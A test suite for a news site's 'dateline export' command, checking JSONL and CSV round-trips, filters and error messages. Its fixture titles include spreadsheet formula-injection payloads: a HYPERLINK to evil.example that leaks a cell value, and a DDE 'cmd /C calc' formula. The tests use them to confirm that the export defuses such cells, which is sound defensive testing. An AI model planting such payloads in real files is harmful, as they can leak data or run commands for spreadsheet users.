/**
 * The export command as an operator runs it: JSONL that `dateline import` turns back into the same
 * items, CSV that spreadsheets and `dateline import` read, and clear coded errors.
 */
import { execFile } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { showProgress } from '../src/cli/export.js';
import { type ExportedItem, exportItems } from '../src/modules/content/export.js';
import { loadDemoItems } from '../src/modules/demo/demo.service.js';
import type { ItemRecord } from '../src/modules/ingest/item-record.js';
import { createTestDatabase, describeEachDialect, type TestDatabase } from './databases.js';
import { pressRelease } from './factories.js';
import { createTestSite, OSCE_PROFILE, type TestSite } from './site.js';

const exec = promisify(execFile);
const BIN = path.join(import.meta.dirname, '..', 'bin', 'dateline.js');
const PUBLIC_URL = 'https://news.example.org';

/** Runs `dateline …` on a database; resolves with the exit code instead of throwing. */
async function dateline(url: string, args: readonly string[]) {
  const env = {
    ...process.env,
    DATABASE_URL: url,
    DATELINE_PROFILE: OSCE_PROFILE,
    PUBLIC_URL,
    LOG_LEVEL: 'silent',
  };
  try {
    const { stdout, stderr } = await exec(process.execPath, [BIN, ...args], {
      env,
      maxBuffer: 64 * 1024 * 1024,
    });
    return { code: 0, stdout, stderr };
  } catch (error) {
    const e = error as { code: number; stdout: string; stderr: string };
    return { code: e.code, stdout: e.stdout, stderr: e.stderr };
  }
}

async function exportedFrom(db: TestDatabase['db']): Promise<ExportedItem[]> {
  const items: ExportedItem[] = [];
  for await (const item of exportItems(db, {}, new Date())) items.push(item);
  return items;
}

const HOSTILE_TITLES = [
  '=HYPERLINK("http://evil.example/?"&A1, "Click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  'Quotes "double", \'single\', commas, and; semicolons',
  'Two\nlines and a\r\ncarriage return',
];

/** A CSV cell without the apostrophe an export puts before a formula-like start. */
const plainCell = (cell: string) => cell.replace(/^'(?=[=+\-@\t\r])/u, '');

describeEachDialect('dateline export (CLI)', (dialect) => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'dateline-export-'));
  let source: TestSite;
  let visible: number;

  beforeAll(async () => {
    // The CLI reads the system clock: the demo archive ends in the past, the embargo far ahead.
    source = await createTestSite(dialect, { profile: OSCE_PROFILE });
    source.clock.set(new Date());
    const site = source.app.site;
    await loadDemoItems(source.database.db, site.taxonomy(), site.profile, {
      items: 400,
      seed: 11,
      now: source.clock.now(),
      endDate: new Date('2025-06-30T00:00:00Z'),
    });
    const osce = {
      sources: [{ vocabulary: 'structures', slug: 'secretariat' }],
      tags: [{ vocabulary: 'fields-of-work', slug: 'policing' }],
    };
    for (const title of HOSTILE_TITLES) await source.addItem(pressRelease({ ...osce, title }));
    // What generated items lack: attachments, a correction, an event in a series, a machine-made tag.
    await source.addItem(
      pressRelease({
        ...osce,
        type: 'event',
        title: 'Review conference opens',
        datelineDate: '2025-03-02',
        translationKey: 'review-2025',
        legacyUrl: 'https://www.example.org/item/42',
        correctionNote: 'The venue was corrected.',
        quotes: [{ speaker: 'Anna Lindqvist', role: 'Head of Office', text: 'We meet again.' }],
        attachments: [
          {
            title: 'Agenda',
            fileName: 'agenda.pdf',
            mediaType: 'application/pdf',
            byteSize: 20480,
            sha256: 'ab'.repeat(32),
            language: 'en',
          },
        ],
        event: {
          startsAt: '2025-04-01T08:00:00.000Z',
          endsAt: '2025-04-02T16:00:00.000Z',
          venue: 'Hofburg',
          series: { vocabulary: 'meetings', slug: 'review-conferences' },
        },
        tags: [
          ...osce.tags,
          { vocabulary: 'countries', slug: 'austria', origin: 'machine', confidence: 0.9 },
        ],
      }),
    );
    await source.addItem(pressRelease({ ...osce, title: 'Draft never leaves', status: 'draft' }));
    await source.addItem(
      pressRelease({
        ...osce,
        title: 'Embargoed until 2999',
        status: 'scheduled',
        publishedAt: '2999-01-01T00:00:00.000Z',
      }),
    );
    visible = (await exportedFrom(source.database.db)).length;
  }, 120_000);
  afterAll(async () => {
    await source?.close();
    fs.rmSync(dir, { recursive: true, force: true });
  });

  it('exports JSONL that `dateline import` turns into the same items in a fresh database', async () => {
    const file = path.join(dir, `items-${dialect}.jsonl`);
    const run = await dateline(source.database.url, ['export', '--format', 'jsonl', '--output', file]);
    expect(run.code).toBe(0);
    expect(run.stdout).toBe('');
    // Not a terminal: no progress lines, only the summary.
    expect(run.stderr).toBe(`Exported ${visible} item(s) to ${file}.\n`);
    const records = fs
      .readFileSync(file, 'utf8')
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as ItemRecord);
    expect(records).toHaveLength(visible);
    const titles = records.map((r) => r.title);
    expect(titles).toEqual(expect.arrayContaining(HOSTILE_TITLES));
    expect(titles).not.toContain('Draft never leaves');
    expect(titles).not.toContain('Embargoed until 2999');
    expect(fs.readdirSync(dir).filter((f) => f.endsWith('.partial'))).toEqual([]);
    // Machine-made tags leave with their origin and confidence (and come back so, below).
    expect(records.flatMap((r) => r.tags ?? []).filter((t) => t.origin === 'machine')).toContainEqual({
      vocabulary: 'countries',
      slug: 'austria',
      origin: 'machine',
      confidence: 0.9,
    });

    const fresh = await createTestDatabase(dialect);
    try {
      const imported = await dateline(fresh.url, ['import', file]);
      expect(imported.code).toBe(0);
      expect(imported.stderr).toContain(`${visible} created, 0 would be created, 0 skipped, 0 failed`);
      const again = await exportedFrom(fresh.db);
      expect(again).toHaveLength(visible);
      for (const [i, { record }] of again.entries()) {
        const original = records[i]!;
        // An item made by an editor has no content hash; the import identifies it by its line's.
        const contentHash = original.contentHash ?? record.contentHash;
        expect(record, original.title).toEqual({ ...original, contentHash });
      }
    } finally {
      await fresh.drop();
    }
  }, 120_000);

  it('writes CSV that parses back column by column, hostile cells intact, and that `dateline import` reads', async () => {
    const file = path.join(dir, `items-${dialect}.csv`);
    const run = await dateline(source.database.url, ['export', '--format', 'csv', '--output', file]);
    expect(run.code).toBe(0);
    const text = fs.readFileSync(file, 'utf8');
    const rows = parse(text, { bom: true, columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(visible);
    const records = await exportedFrom(source.database.db);
    for (const [i, row] of rows.entries()) {
      const { id, urlYear, record } = records[i]!;
      const plain = plainCell;
      expect(row.id).toBe(String(id));
      expect(row.url).toBe(`${PUBLIC_URL}/${record.language}/${record.type}/${urlYear}/${record.slug}`);
      expect([row.type, row.language, plain(row.title!), row.summary, plain(row.body!)]).toEqual([
        record.type,
        record.language,
        record.title,
        record.summary,
        record.bodyMarkdown,
      ]);
      expect(row.published_at).toBe(record.publishedAt);
      expect(row.dateline_place).toBe(record.datelinePlace ?? '');
      expect(row.dateline_date).toBe(record.datelineDate ?? '');
      expect(row.legacy_url).toBe(record.legacyUrl ?? '');
      expect(row.translation_key).toBe(record.translationKey ?? '');
      expect(row.sources).toBe((record.sources ?? []).map((r) => `${r.vocabulary}/${r.slug}`).join(';'));
      expect(row.tags).toBe((record.tags ?? []).map((r) => `${r.vocabulary}/${r.slug}`).join(';'));
    }
    const byTitle = new Map(rows.map((r) => [r.title, r]));
    // Formulas are defused with a leading apostrophe; quotes, commas and line breaks come back as they were.
    expect(byTitle.has(`'${HOSTILE_TITLES[0]}`)).toBe(true);
    expect(byTitle.has(`'${HOSTILE_TITLES[1]}`)).toBe(true);
    expect(byTitle.has(HOSTILE_TITLES[2])).toBe(true);
    expect(byTitle.has(HOSTILE_TITLES[3])).toBe(true);

    // The importer reads "vocabulary/slug" references as those terms, and undoes the defusing.
    const fresh = await createTestDatabase(dialect);
    try {
      const imported = await dateline(fresh.url, [
        'import',
        file,
        '--columns',
        'date=published_at,place=dateline_place,url=url',
        '--body-format',
        'markdown',
        '--no-tagging',
      ]);
      expect(imported.code).toBe(0);
      expect(imported.stderr).toContain(`${visible} created, 0 would be created, 0 skipped, 0 failed`);
      const items = await fresh.db
        .selectFrom('items')
        .select(['title', 'type', 'language', 'body_md', 'legacy_url', 'published_at', 'dateline_place'])
        .orderBy('id')
        .execute();
      expect(items).toEqual(
        rows.map((row) => ({
          title: plainCell(row.title!).trim(),
          type: row.type,
          language: row.language,
          body_md: plainCell(row.body!),
          // The item's address on this site is the legacy URL of the imported one: old links still work.
          legacy_url: row.url,
          // CSV import keeps the publication day (at noon UTC), not the instant.
          published_at: `${row.published_at!.slice(0, 10)}T12:00:00.000Z`,
          dateline_place: row.dateline_place || expect.anything(),
        })),
      );
      // Sources and tags come back as terms (a tag naming an institution becomes its source: the
      // importer's rule for categories, so the union is what survives).
      const termsOf = async (table: 'item_sources' | 'item_tags') =>
        fresh.db
          .selectFrom(table)
          .innerJoin('terms', 'terms.id', `${table}.term_id`)
          .innerJoin('vocabularies', 'vocabularies.id', 'terms.vocabulary_id')
          .select([`${table}.item_id as item`, 'vocabularies.slug as vocabulary', 'terms.slug'])
          .execute();
      const refsOf = new Map<number, string[]>();
      for (const t of [...(await termsOf('item_sources')), ...(await termsOf('item_tags'))])
        refsOf.set(t.item, [...(refsOf.get(t.item) ?? []), `${t.vocabulary}/${t.slug}`]);
      const ids = (await fresh.db.selectFrom('items').select('id').orderBy('id').execute()).map((r) => r.id);
      expect(ids.map((id) => (refsOf.get(id) ?? []).sort())).toEqual(
        rows.map((row) => [...new Set(`${row.sources};${row.tags}`.split(';').filter(Boolean))].sort()),
      );
    } finally {
      await fresh.drop();
    }
  }, 120_000);

  it('writes to stdout by default, narrowed by language, type and day', async () => {
    const all = await exportedFrom(source.database.db);
    // A filter that some, not all, items pass: those like an item near the end of the archive.
    const { language, type, publishedAt } = all[all.length - 20]!.record;
    const since = publishedAt!.slice(0, 10);
    const expected = all.filter(
      (i) => i.record.language === language && i.record.type === type && i.record.publishedAt! >= since,
    );
    expect(expected.length).toBeGreaterThan(0);
    expect(expected.length).toBeLessThan(20);
    const run = await dateline(source.database.url, [
      'export',
      '--format',
      'jsonl',
      '--language',
      language,
      '--type',
      type,
      '--since',
      since,
    ]);
    expect(run.code).toBe(0);
    const records = run.stdout
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as ItemRecord);
    expect(records).toEqual(expected.map((i) => i.record));
    expect(run.stderr).toBe(`Exported ${expected.length} item(s).\n`);
  }, 60_000);

  it('refuses an unwritable output with a coded error, leaving nothing behind', async () => {
    const file = path.join(dir, 'no-such-folder', 'items.jsonl');
    const run = await dateline(source.database.url, ['export', '--format', 'jsonl', '--output', file]);
    expect(run.code).toBe(1);
    expect(run.stderr).toMatch(/^Error DL_VALIDATION: Cannot write to .*items\.jsonl: ENOENT\.\n$/u);
    const folder = await dateline(source.database.url, ['export', '--format', 'csv', '--output', dir]);
    expect(folder.stderr).toBe(`Error DL_VALIDATION: Cannot write to ${dir}: it is a folder.\n`);
    expect(fs.readdirSync(dir).filter((f) => f.endsWith('.partial'))).toEqual([]);
  }, 60_000);
});

describe('dateline export: options and progress', () => {
  it('refuses an unknown format, language, type or day with a coded error and no stack trace', async () => {
    const url = `sqlite:${path.join(os.tmpdir(), 'dateline-export-never-opened.db')}`;
    for (const [args, message] of [
      [['--format', 'xml'], 'Unknown export format "xml": use --format jsonl or csv.'],
      [[], 'Unknown export format "": use --format jsonl or csv.'],
      [['--format', 'csv', '--language', 'xx'], 'Unknown language "xx": the site has en, fr'],
      [['--format', 'csv', '--type', 'blog'], 'Unknown content type "blog"'],
      [['--format', 'csv', '--since', '2025-02-30'], '--since "2025-02-30" is not a date YYYY-MM-DD.'],
    ] as const) {
      const run = await dateline(url, ['export', ...args]);
      expect(run.code, args.join(' ')).toBe(1);
      expect(run.stderr).toContain(`Error DL_VALIDATION: ${message}`);
      expect(run.stderr).not.toMatch(/\n\s+at /u);
    }
    // Checked before any database is opened.
    expect(fs.existsSync(url.slice('sqlite:'.length))).toBe(false);
  }, 60_000);

  it('shows a bar only on a terminal that the export itself does not write to', () => {
    expect(showProgress(true, { stderr: true, stdout: true })).toBe(true);
    expect(showProgress(false, { stderr: true, stdout: false })).toBe(true);
    expect(showProgress(false, { stderr: true, stdout: true })).toBe(false);
    expect(showProgress(true, { stderr: false, stdout: false })).toBe(false);
    expect(showProgress(false, { stderr: false, stdout: true })).toBe(false);
  });
});
